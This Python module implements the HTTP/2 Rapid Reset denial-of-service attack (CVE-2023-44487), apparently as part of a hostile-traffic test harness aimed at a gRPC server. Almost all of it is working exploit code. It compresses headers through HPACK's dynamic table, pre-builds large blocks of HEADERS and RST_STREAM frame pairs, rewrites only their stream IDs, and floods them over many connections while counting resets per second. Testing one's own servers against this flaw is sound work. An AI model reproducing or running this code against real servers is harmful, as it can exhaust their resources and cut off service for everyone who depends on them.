"""Rapid resets (CVE-2023-44487): streams that are opened and reset at once, faster than a server can undo them."""

import time
from collections.abc import Callable
from typing import Final

import numpy as np

from tools.hostile import frames
from tools.hostile.connection import Connection
from tools.hostile.roles import own_metadata
from tools.hostile.target import Target

BLOCK_PAIRS: Final = 20_000
PACED_S: Final = 0.02
FIELDS: Final = {":path": "", ":authority": "localhost", "te": "trailers", "content-type": "application/grpc"}
METHOD_POST, SCHEME_HTTP, NEWEST = 0x83, 0x86, 0x80 | 62
"""Indexed fields of HPACK: two of the static table, and the newest of the dynamic one."""


def resets(path: str, connections: int, rate: int | None = None) -> Callable[[Target], None]:
    """Opens and resets streams on the connections in turn, as fast as the server takes them or at a rate per second."""
    first = bytes([METHOD_POST, SCHEME_HTTP])
    fields = FIELDS | {":path": path} | own_metadata()
    for name, value in fields.items():
        # Literal with indexing: from then on, each request is six bytes of header.
        first += b"\x40" + frames.header(name, value)[1:]
    rest = bytes([METHOD_POST, SCHEME_HTTP, *range(NEWEST + len(fields) - 1, NEWEST - 1, -1)])
    pairs = max(1, round(rate * PACED_S / connections) if rate else BLOCK_PAIRS // connections)
    block = _Block(rest, pairs)

    def run(target: Target) -> None:
        known: set[Connection] = set()

        def step(connection: Connection) -> None:
            if connection not in known:
                known.add(connection)
                connection.reset(connection.open(first))
            connection.send(block.starting(connection.take_streams(pairs)))
            target.count("resets", pairs)

        begin = time.monotonic()
        target.keep(connections, step, pause_s=PACED_S if rate else 0)
        target.counts["resets_per_s"] = round(target.counts.get("resets", 0) / (time.monotonic() - begin))

    return run


class _Block:
    """The bytes of many pairs of HEADERS and RST_STREAM; only the streams change."""

    def __init__(self, fields: bytes, pairs: int) -> None:
        head = frames.headers(0, fields)
        pair = np.frombuffer(head + frames.rst_stream(0), np.uint8)
        self._bytes = np.tile(pair, (pairs, 1))
        self._places = (5, len(head) + 5)
        self._offsets = 2 * np.arange(pairs)

    def starting(self, stream: int) -> bytes:
        streams = (stream + self._offsets).astype(">u4").view(np.uint8).reshape(-1, 4)
        for place in self._places:
            self._bytes[:, place : place + 4] = streams
        return self._bytes.tobytes()
